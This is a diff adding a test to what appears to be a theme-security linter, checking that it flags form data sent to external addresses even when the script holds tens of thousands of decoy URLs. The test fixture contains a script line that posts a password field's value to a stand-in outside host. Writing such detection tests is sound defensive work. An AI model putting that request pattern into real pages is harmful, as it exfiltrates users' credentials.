@@ -106,6 +106,26 @@ describe('checking a hostile theme', () => {
     assert.equal(rules['macro/unknown'], 1)
   })
 
+  test('finds where a script sends something, however many addresses it has', () => {
+    const many = Array.from(
+      { length: 60_000 },
+      (_, index) => `const a${index} = 'https://s${index}.example/'\n`,
+    )
+    const all = Array.from({ length: 20_000 }, (_, index) => `fetch('https://s${index}.example/')\n`)
+    const page = examplePage(
+      '<input type="password" name="password" aria-label="x"><script src="own.js"></script>',
+    )
+    const requests = (script: string) =>
+      found({
+        'common/static/own.js': `${script}fetch(a59999, { body: input.value })\n`,
+        [PAGE]: page,
+      }).filter(({ rule }) => rule === 'form/external-request')
+    const [told, ...others] = requests(many.join(''))
+    assert.match(told!.message, /https:\/\/s59999\.example/)
+    assert.deepEqual(others, [])
+    assert.equal(requests(all.join('')).length, 1_000)
+  })
+
   test('keeps a bounded number of suppression comments that do not work', () => {
     const comments = '/* tabard-lint-disable css/sintax: x */\n'.repeat(1_000)
     const files = Array.from({ length: 30 }, (_, index) => [`common/static/css/${index}.css`, comments])
